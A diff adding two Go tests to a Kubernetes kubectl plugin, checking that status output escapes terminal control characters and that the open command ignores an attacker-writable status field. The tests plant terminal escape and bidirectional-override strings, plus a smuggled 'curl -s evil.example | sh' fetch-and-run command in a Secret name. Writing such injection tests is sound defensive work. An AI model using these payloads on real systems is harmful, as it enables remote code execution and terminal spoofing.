@@ -319,3 +319,41 @@ func TestKrewManifestNamesThePluginsArchiveForEveryPlatform(t *testing.T) {
 		}
 	}
 }
+
+// What others may write (a condition, an event, a status field) reaches
+// the terminal as text, never as a control: an escape sequence, a bell, a
+// bidirectional override are shown escaped.
+func TestStatusShowsControlCharactersOthersWroteEscaped(t *testing.T) {
+	ps := &appsv1alpha1.PodSet{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: ns, UID: "ps-uid", Generation: 1}}
+	ps.Status = appsv1alpha1.PodSetStatus{ObservedGeneration: 1, Conditions: []metav1.Condition{
+		{Type: "Note", Status: metav1.ConditionTrue, Reason: "Planted", Message: "\x1b]0;owned\x07\x1b[2Jhello\u202eolleh\r\n"}}}
+	ev := corev1.Event{ObjectMeta: metav1.ObjectMeta{Name: "e1", Namespace: ns}, InvolvedObject: corev1.ObjectReference{UID: "ps-uid"},
+		Type: "Normal", Reason: "Planted", Message: "\x1b[31mred", LastTimestamp: metav1.NewTime(t0)}
+	out, err := execute(t, []client.Object{ps}, []corev1.Event{ev}, "status", "pset/web")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []string{"\x1b", "\x07", "\u202e", "\r"} {
+		if strings.Contains(out, c) {
+			t.Errorf("status printed the control %q:\n%q", c, out)
+		}
+	}
+	for _, want := range []string{`\u001b]0;owned\u0007\u001b[2Jhello\u202eolleh`, `\u001b[31mred`} {
+		if !strings.Contains(out, want) {
+			t.Errorf("status lacks %s:\n%s", want, out)
+		}
+	}
+}
+
+// The password's Secret is the one the Workspace's spec names, whatever
+// its status (which whoever may write status can change) says.
+func TestOpenNamesThePasswordSecretFromTheSpecNotFromStatus(t *testing.T) {
+	ws := &idev1alpha1.Workspace{ObjectMeta: metav1.ObjectMeta{Name: "alice", Namespace: ns}}
+	ws.Spec.Port = 8080
+	ws.Status.CredentialsSecret = "x; curl -s evil.example | sh"
+	var b bytes.Buffer
+	openLines(&b, ws, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "alice"}}, "127.0.0.1", 40123)
+	if strings.Contains(b.String(), "evil") || !strings.Contains(b.String(), "get secret alice-auth -o jsonpath") {
+		t.Errorf("open names another Secret than alice-auth:\n%s", b.String())
+	}
+}
